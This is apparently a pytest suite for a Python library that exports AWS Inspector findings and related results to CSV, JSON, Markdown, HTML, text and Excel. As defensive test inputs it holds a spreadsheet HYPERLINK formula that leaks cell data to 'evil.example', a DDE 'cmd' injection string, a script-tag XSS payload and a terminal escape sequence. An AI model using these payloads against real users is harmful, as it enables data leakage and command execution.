"""inspector_kit.formats: flat records, DataFrames, Arrow, CSV, JSON, Markdown and Excel."""

from __future__ import annotations

import csv
import inspect
import io
import json
import pathlib
import subprocess
import sys
from datetime import date, datetime, timezone
from decimal import Decimal
from typing import Any

import pytest

from inspector_kit import Finding, InspectorKitError, load_findings, sample_findings
from inspector_kit import formats as fm
from inspector_kit.pricing import PriceTable, Usage, estimate
from inspector_kit.sample import sample_inventory
from inspector_kit.scoring import rescore_all
from inspector_kit.testing import finding_payload
from inspector_kit.triage import BusinessCalendar, TriagePolicy, rank, rollup_by_cve

NOW = datetime(2026, 11, 22, tzinfo=timezone.utc)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]
PLAIN = ["hello", "CVE-2024-0001", "a=b", "", "1+1"]


class Rows:
    """A Records result of your own (columns + to_records()): what the formats accept."""

    def __init__(self, rows: list[dict[str, Any]]) -> None:
        self.rows = rows

    @property
    def columns(self) -> tuple[str, ...]:
        return tuple(dict.fromkeys(key for row in self.rows for key in row))

    def to_records(self) -> list[dict[str, Any]]:
        return self.rows


def hostile_rows() -> Rows:
    rows: list[dict[str, Any]] = [{"text": text, "number": None} for text in HOSTILE + PLAIN]
    rows += [{"text": None, "number": n} for n in (-2, -1.5, Decimal("-3.25"), 7)]
    return Rows(rows)


@pytest.fixture(scope="module")
def findings() -> list[Finding]:
    return list(sample_findings())


# ----------------------------------------------------------------------------- records


def test_finding_columns_are_exact(findings: list[Finding]) -> None:
    assert fm.FINDING_COLUMNS == (
        "finding_arn",
        "aws_account_id",
        "region",
        "type",
        "severity",
        "status",
        "title",
        "vulnerability_id",
        "inspector_score",
        "epss_score",
        "exploit_available",
        "fix_available",
        "first_observed_at",
        "last_observed_at",
        "updated_at",
        "resource_type",
        "resource_id",
        "resource_short_name",
        "packages",
        "purls",
    )
    rows = fm.to_records(sample_findings())  # a one-shot LoadedFindings is fine
    assert len(rows) == len(findings) == 274
    flat = (str, int, float, bool, datetime, date, Decimal, type(None))
    for row, finding in zip(rows, findings, strict=True):
        assert tuple(row) == fm.FINDING_COLUMNS
        assert all(isinstance(v, flat) for v in row.values())
        assert all(type(v) is str for v in (row["severity"], row["status"], row["type"]))
        assert row["finding_arn"] == finding.finding_arn
        assert row["first_observed_at"].tzinfo is not None
        assert row["resource_id"] == finding.primary_resource.id
    assert {r["type"] for r in rows} == {
        "PACKAGE_VULNERABILITY",
        "NETWORK_REACHABILITY",
        "CODE_VULNERABILITY",
    }


def test_finding_packages_and_purls_are_joined(findings: list[Finding]) -> None:
    f = Finding.from_api(
        finding_payload(
            packageVulnerabilityDetails={
                "vulnerabilityId": "CVE-2023-38545",
                "source": "NVD",
                "vulnerablePackages": [
                    {"name": "curl", "version": "8.0.1", "packageManager": "OS"},
                    {"name": "libcurl", "version": "8.0.1", "packageManager": "OS"},
                    {"name": "curl", "version": "8.0.2", "packageManager": "OS"},
                ],
            }
        )
    )
    (row,) = fm.to_records(f)
    assert row["packages"] == "curl;libcurl"
    with_purl = next(f for f in findings if any(f.purls))
    purls = ";".join(dict.fromkeys(str(p) for p in with_purl.purls if p is not None))
    assert fm.to_records(with_purl)[0]["purls"] == purls
    assert purls.startswith("pkg:")
    net = Finding.from_api(finding_payload(type="NETWORK_REACHABILITY"))
    assert fm.to_records(net)[0]["packages"] is None


def test_rescores_rows(findings: list[Finding]) -> None:
    rescores = rescore_all(findings, default="INTERNAL")
    rows = fm.to_records(rescores)
    assert len(rows) == len(findings)
    assert all(tuple(r) == fm.RESCORE_COLUMNS for r in rows)
    changed = next(r for r in rescores if r.adjustments)
    row = fm.to_records(changed)[0]
    assert row["exposure"] == "INTERNAL"
    assert row["adjustments"] == ";".join(str(a) for a in changed.adjustments)
    assert row["severity_changed"] is changed.severity_changed
    assert any(r["reason"] for r in rows)  # network findings: nothing computed, and why


def test_coverage_report_records() -> None:
    report = sample_inventory().analyze()
    rows = fm.to_records(report)
    assert rows == report.to_records()
    assert len(rows) == len(report) == 31
    assert list(rows[0])[:4] == ["account_id", "region", "instance_id", "name"]
    assert fm.to_records(report.instances[0]) == [report.instances[0].to_record()]


def test_cost_estimate_and_price_table_records() -> None:
    cost = estimate(Usage(agent_based_hours=720, agentless_hours=1440), region="us-east-1")
    rows = fm.to_records(cost)
    assert [r["item"] for r in rows] == ["ec2_agent_based", "ec2_agentless"]
    assert list(rows[0]) == [
        "region",
        "item",
        "quantity",
        "unit",
        "price",
        "currency",
        "amount",
        "formula",
        "source",
        "as_of",
    ]
    assert rows[0]["amount"] == Decimal("1.2528")
    assert fm.to_records(PriceTable.bundled()) == PriceTable.bundled().to_records()


def test_triage_plan_and_rank_records(findings: list[Finding]) -> None:
    active = [f for f in findings if f.status == "ACTIVE"]
    plan = TriagePolicy.default().plan(active, calendar=BusinessCalendar("US"), now=NOW)
    rows = fm.to_records(plan)
    assert rows == plan.to_records()
    assert list(rows[0]) == [
        "finding_arn",
        "aws_account_id",
        "region",
        "resource_id",
        "vulnerability_id",
        "severity",
        "status",
        "queue",
        "rule",
        "due",
        "kev_due",
        "overdue",
        "due_today",
        "days_overdue",
        "first_seen_unknown",
        "review_decision",
        "reviewed_at",
        "reviewer",
        "why",
    ]
    ranked = rank(active)
    assert fm.to_records(ranked) == [r.to_record() for r in ranked]
    assert fm.to_records(rollup_by_cve(ranked)) == [r.to_record() for r in rollup_by_cve(ranked)]


@pytest.mark.parametrize("bad", [42, "findings.json", b"{}", {1: "a"}, [1], [object()], None])
def test_unconvertible_input_is_a_type_error(bad: object) -> None:
    with pytest.raises(TypeError, match="cannot convert"):
        fm.to_records(bad)


def test_type_error_names_the_type() -> None:
    with pytest.raises(TypeError, match=r"^cannot convert int \(an item of list\)"):
        fm.to_records([Finding.from_api(finding_payload()), 3])
    with pytest.raises(TypeError, match=r"column 'nested' of Rows holds a list"):
        fm.to_records(Rows([{"nested": [1, 2]}]))
    with pytest.raises(TypeError, match=r"Rows gave a tuple row"):
        fm.to_records(Rows([("a", 1)]))  # type: ignore[list-item]


# ----------------------------------------------------------------------------- frames


def test_to_pandas_dtypes(findings: list[Finding]) -> None:
    pd = pytest.importorskip("pandas")
    df = fm.to_pandas(findings)
    assert list(df.columns) == list(fm.FINDING_COLUMNS)
    for col in ("severity", "status", "type", "exploit_available", "fix_available"):
        assert df[col].dtype == "category", col
    assert str(df["resource_type"].dtype) == "category"
    for col in ("first_observed_at", "last_observed_at", "updated_at"):
        assert str(df[col].dtype) == "datetime64[ns, UTC]", col
    assert str(df["inspector_score"].dtype) == "Float64"
    assert str(df["epss_score"].dtype) == "Float64"
    assert str(df["title"].dtype) == "string"
    assert df["inspector_score"].isna().any()  # network findings: pd.NA, not NaN
    assert df["first_observed_at"].iloc[0] == pd.Timestamp(findings[0].first_observed_at)
    assert set(df["severity"].dropna()) <= {
        "CRITICAL",
        "HIGH",
        "MEDIUM",
        "LOW",
        "INFORMATIONAL",
        "UNTRIAGED",
    }


def test_to_pandas_other_results(findings: list[Finding]) -> None:
    pytest.importorskip("pandas")
    cov = fm.to_pandas(sample_inventory().analyze())
    assert str(cov["status"].dtype) == "category"
    assert str(cov["expected_method"].dtype) == "category"
    assert str(cov["mismatch"].dtype) == "boolean"
    assert str(cov["last_scanned_at"].dtype) == "datetime64[ns, UTC]"
    cost = fm.to_pandas(estimate(Usage(agent_based_hours=720), region="us-east-1"))
    assert cost["amount"].dtype == object and cost["amount"][0] == Decimal("1.2528")
    assert str(cost["item"].dtype) == "category"
    ranked = fm.to_pandas(rank(findings))
    assert str(ranked["rank"].dtype) == "Int64"
    assert str(ranked["exposure"].dtype) == "Float64"  # a number here, not categorical
    assert fm.to_pandas([]).empty


def test_to_arrow_schema(findings: list[Finding]) -> None:
    pa = pytest.importorskip("pyarrow")
    table = fm.to_arrow(findings)
    assert table.column_names == list(fm.FINDING_COLUMNS)
    schema = table.schema
    assert schema.field("severity").type == pa.dictionary(pa.int32(), pa.string())
    assert schema.field("first_observed_at").type == pa.timestamp("us", tz="UTC")
    assert schema.field("updated_at").type == pa.timestamp("us", tz="UTC")
    assert schema.field("inspector_score").type == pa.float64()
    assert schema.field("finding_arn").type == pa.string()
    cost = fm.to_arrow(estimate(Usage(agent_based_hours=720), region="us-east-1"))
    assert pa.types.is_decimal(cost.schema.field("amount").type)
    assert cost.column("amount")[0].as_py() == Decimal("1.2528")
    assert cost.schema.field("as_of").type == pa.date32()
    cov = fm.to_arrow(sample_inventory().analyze())
    assert cov.schema.field("billed").type == pa.bool_()


@pytest.mark.parametrize(
    ("module", "extra", "call"),
    [
        ("pandas", "pandas", lambda items, tmp: fm.to_pandas(items)),
        ("pyarrow", "arrow", lambda items, tmp: fm.to_arrow(items)),
        ("openpyxl", "excel", lambda items, tmp: fm.write_excel(items, tmp / "x.xlsx")),
    ],
)
def test_missing_extra(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Any, module: str, extra: str, call: Any
) -> None:
    monkeypatch.setitem(sys.modules, module, None)
    with pytest.raises(fm.MissingExtraError) as info:
        call([Finding.from_api(finding_payload())], tmp_path)
    err = info.value
    assert isinstance(err, ImportError) and isinstance(err, InspectorKitError)
    assert f"pip install 'inspector-kit[{extra}]'" in str(err)
    assert err.module == module and err.extra == extra
    assert isinstance(err.__cause__, ImportError)


def test_import_does_not_load_the_extras() -> None:
    code = (
        "import sys, inspector_kit.formats; "
        "print(sorted(m for m in ('pandas', 'pyarrow', 'openpyxl') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


# ----------------------------------------------------------------------------- text


def test_csv_neutralises_formulas_and_keeps_numbers() -> None:
    text = fm.to_csv(hostile_rows())
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    texts = [r["text"] for r in rows[: len(HOSTILE) + len(PLAIN)]]
    assert texts == ["'" + h for h in HOSTILE] + PLAIN
    assert [r["number"] for r in rows[len(HOSTILE) + len(PLAIN) :]] == ["-2", "-1.5", "-3.25", "7"]


def test_csv_of_findings(findings: list[Finding]) -> None:
    f = Finding.from_api(finding_payload(title="@SUM(1+1)", inspectorScore=9.8))
    (row,) = csv.DictReader(io.StringIO(fm.to_csv(f), newline=""))
    assert row["title"] == "'@SUM(1+1)"
    assert row["inspector_score"] == "9.8"
    assert row["first_observed_at"] == "2026-10-01T08:00:00+00:00"
    reader = csv.reader(io.StringIO(fm.to_csv(findings), newline=""))
    assert tuple(next(reader)) == fm.FINDING_COLUMNS
    assert sum(1 for _ in reader) == len(findings)
    assert fm.to_csv([]) == ""


def test_json_round_trips_findings(findings: list[Finding], tmp_path: Any) -> None:
    assert list(load_findings(fm.to_json(findings), strict=True)) == findings
    assert list(load_findings(fm.to_jsonl(findings), strict=True)) == findings
    assert fm.to_jsonl(findings).count("\n") == len(findings)
    fm.write_json(findings, tmp_path / "f.json")
    fm.write_jsonl(iter(findings), tmp_path / "f.jsonl")  # one-shot iterables are fine
    assert list(load_findings(tmp_path / "f.json", strict=True)) == findings
    assert list(load_findings(tmp_path / "f.jsonl", strict=True)) == findings
    one = findings[0]
    assert list(load_findings(fm.to_json(one))) == [one]
    assert json.loads(fm.to_json([])) == []


def test_json_of_records_is_plain() -> None:
    cost = estimate(Usage(agent_based_hours=720), region="us-east-1")
    (row,) = json.loads(fm.to_json(cost))
    assert row["amount"] == "1.2528" and row["as_of"] == "2024-04-01"
    (cov,) = (
        json.loads(line)
        for line in fm.to_jsonl(sample_inventory().analyze().instances[:1]).splitlines()
    )
    assert cov["last_scanned_at"].endswith("+00:00")
    mixed = [Finding.from_api(finding_payload()), hostile_rows()]
    assert json.loads(fm.to_json(mixed))[0]["finding_arn"]  # not all findings: records


def test_markdown_escapes_pipes_and_newlines() -> None:
    rows = Rows(
        [
            {"a": "x|y", "b": "line1\nline2\r\nline3", "c": None},
            {"a": "back\\slash", "b": True, "c": Decimal("1E+2")},
        ]
    )
    lines = fm.to_markdown(rows).splitlines()
    assert lines == [
        "| a | b | c |",
        "| --- | --- | --- |",
        "| x\\|y | line1<br>line2<br>line3 |  |",
        "| back\\\\slash | true | 100 |",
    ]
    assert fm.to_markdown([]) == ""


def test_markdown_of_findings(findings: list[Finding], tmp_path: Any) -> None:
    text = fm.to_markdown(findings)
    lines = text.splitlines()
    assert len(lines) == len(findings) + 2
    assert all(line.count(" | ") == len(fm.FINDING_COLUMNS) - 1 for line in lines)
    fm.write_markdown(findings, tmp_path / "f.md")
    assert (tmp_path / "f.md").read_text(encoding="utf-8") == text


def test_write_csv(findings: list[Finding], tmp_path: Any) -> None:
    fm.write_csv(findings, tmp_path / "f.csv")
    assert (tmp_path / "f.csv").read_bytes() == fm.to_csv(findings).encode()


# ----------------------------------------------------------------------------- excel


def test_excel_cells_are_strings_not_formulas(tmp_path: Any) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    at = datetime(2026, 1, 2, 3, 4, tzinfo=timezone.utc)
    rows = [*hostile_rows().rows, {"text": "bell\x07", "number": None, "at": at}]
    fm.write_excel(Rows(rows), tmp_path / "x.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx")["records"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("text", "number", "at")
    n = len(HOSTILE)
    # XML turns a stored carriage return into a line feed when the workbook is read back.
    assert [v[0] for v in values[1 : n + 1]] == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    assert all(row[0].data_type != "f" for row in sheet.iter_rows(min_row=2, max_col=1))
    assert sheet["A2"].data_type == "s"  # the =HYPERLINK(...) cell: a string
    assert [v[1] for v in values[-5:-1]] == [-2, -1.5, -3.25, 7]
    assert values[-1] == ("bell", None, datetime(2026, 1, 2, 3, 4))


def test_excel_of_findings(findings: list[Finding], tmp_path: Any) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    fm.write_excel(findings, tmp_path / "f.xlsx", sheet_name="findings")
    sheet = openpyxl.load_workbook(tmp_path / "f.xlsx")["findings"]
    assert tuple(c.value for c in sheet[1]) == fm.FINDING_COLUMNS
    assert sheet.max_row == len(findings) + 1
    assert sheet.cell(row=2, column=1).value == findings[0].finding_arn


# ----------------------------------------------------------------------------- public API


def test_every_public_name_has_an_example() -> None:
    for name in fm.__all__:
        obj = getattr(fm, name)
        if inspect.isfunction(obj) or inspect.isclass(obj):
            assert ">>>" in (obj.__doc__ or ""), name


def test_to_html_escapes_every_string_and_limits_rows(tmp_path: pathlib.Path) -> None:
    from inspector_kit import Finding
    from inspector_kit.formats import to_html, write_html
    from inspector_kit.testing import finding_payload

    hostile = '<script>alert(1)</script>"onmouseover="x'
    findings = [
        Finding.from_api(
            finding_payload(
                title=hostile,
                findingArn=f"arn:aws:inspector2:us-east-1:111122223333:finding/{n:032x}",
            )
        )
        for n in range(3)
    ]
    html = to_html(findings, limit=2)
    assert "<script>" not in html and 'onmouseover="x' not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&quot;onmouseover=&quot;x" in html
    assert html.count("<tr") == 4  # header, 2 rows and the "1 more row" line
    assert "… and 1 more row" in html
    path = tmp_path / "f.html"
    write_html(findings, path)
    written = path.read_text(encoding="utf-8")
    assert written.count("<tr") == 4 and "more row" not in written  # header and 3 rows


def test_plain_rows_go_through_the_same_writers() -> None:
    from inspector_kit.formats import to_csv, to_records

    assert to_records({"a": 1}) == [{"a": 1}]
    assert to_csv([{"name": "=cmd|' /C calc'!A0", "n": -2}]) == (
        "name,n\r\n'=cmd|' /C calc'!A0,-2\r\n"
    )
    with pytest.raises(TypeError, match="column 'a' of dict holds a list"):
        to_records([{"a": [1]}])


# ----------------------------------------------------------------------------- protocol


def test_records_protocol_and_mixin_on_a_class_of_your_own() -> None:
    class Totals(fm.RecordsMixin):
        columns = ("severity", "count")

        def to_records(self) -> list[dict[str, fm.RecordValue]]:
            return [{"severity": "HIGH", "count": 2}, {"severity": "LOW|x", "count": 10}]

    totals = Totals()
    assert isinstance(totals, fm.Records)
    assert totals.to_text() == ("severity  count\n--------  -----\nHIGH      2\nLOW|x     10\n")
    assert totals.to_markdown().splitlines()[3] == "| LOW\\|x | 10 |"
    assert "<th" in totals._repr_html_() and ">LOW|x</td>" in totals._repr_html_()


def test_to_text_is_terminal_safe_and_limited() -> None:
    rows = Rows([{"title": "a\x1b[2J\nb", "n": 1}, {"title": "c", "n": None}])
    text = fm.to_text(rows)
    assert "\x1b" not in text and "a\\x1b[2J\\nb" in text
    assert text.splitlines()[3].rstrip() == "c"
    limited = fm.to_text(rows, limit=1).splitlines()
    assert limited[-1] == "… and 1 more row" and len(limited) == 4
    assert fm.to_text([]) == ""


def test_finding_records_are_the_records_of_a_list_of_findings(findings: list[Finding]) -> None:
    table = fm.FindingRecords(findings[:3])
    assert isinstance(table, fm.Records) and table.columns == fm.FINDING_COLUMNS
    assert table.to_records() == fm.to_records(findings[:3])
    assert fm.to_csv(table) == fm.to_csv(findings[:3])


def test_records_error_is_a_type_error_and_an_input_error() -> None:
    from inspector_kit.errors import InputError, RecordsError

    with pytest.raises(RecordsError) as caught:
        fm.to_records(object())
    assert isinstance(caught.value, TypeError) and isinstance(caught.value, InputError)


def test_declared_columns_give_the_html_header_of_an_empty_result() -> None:
    from inspector_kit.history import diff

    html = fm.to_html(diff([], []))
    assert ">change</th>" in html and ">finding_arn</th>" in html
    assert fm.to_markdown(diff([], [])) == "" and fm.to_csv(diff([], [])) == ""
